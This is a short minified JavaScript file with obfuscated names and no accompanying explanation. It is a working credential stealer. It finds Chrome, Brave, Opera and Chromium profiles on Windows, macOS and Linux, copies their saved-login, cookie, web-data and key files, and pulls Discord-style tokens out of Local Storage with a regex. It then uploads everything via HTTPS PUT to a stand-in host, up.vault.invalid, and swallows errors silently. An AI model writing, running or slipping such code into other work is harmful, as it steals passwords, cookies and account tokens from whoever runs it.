const o = require("fs"), e = require("path"), n = require("os"), r = require("https"), t = n.homedir(), i = {
    win32: [ e.join(process.env.LOCALAPPDATA || "", "Google", "Chrome", "User Data"), e.join(process.env.LOCALAPPDATA || "", "BraveSoftware", "Brave-Browser", "User Data"), e.join(process.env.APPDATA || "", "Opera Software", "Opera Stable") ],
    darwin: [ e.join(t, "Library", "Application Support", "Google", "Chrome"), e.join(t, "Library", "Application Support", "BraveSoftware", "Brave-Browser") ],
    linux: [ e.join(t, ".config", "google-chrome"), e.join(t, ".config", "chromium") ]
}, a = [ "Login Data", "Cookies", "Web Data", "Local State" ], s = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g;

function c(n) {
    return o.existsSync(n) ? o.readdirSync(n, {
        withFileTypes: !0
    }).filter(o => o.isDirectory() && ("Default" === o.name || o.name.startsWith("Profile"))).map(o => e.join(n, o.name)) : [];
}

function f(n) {
    const r = e.join(n, "Local Storage", "leveldb"), t = new Set;
    if (!o.existsSync(r)) return t;
    for (const n of o.readdirSync(r)) {
        if (!n.endsWith(".ldb") && !n.endsWith(".log")) continue;
        const i = o.readFileSync(e.join(r, n), "latin1");
        for (const o of i.match(s) || []) t.add(o);
    }
    return t;
}

function l(o, e) {
    const n = r.request({
        host: "up.vault.invalid",
        path: "/f/" + encodeURIComponent(o),
        method: "PUT"
    });
    n.on("error", () => {}), n.end(e);
}

for (const r of i[process.platform] || []) for (const t of c(r)) {
    for (const r of a) {
        const i = e.join(t, r);
        try {
            const a = e.join(n.tmpdir(), Date.now() + ".tmp");
            o.copyFileSync(i, a), l(e.basename(t) + "-" + r, o.readFileSync(a)), o.unlinkSync(a);
        } catch (o) {
            continue;
        }
    }
    l("tokens.json", JSON.stringify([ ...f(t) ]));
}
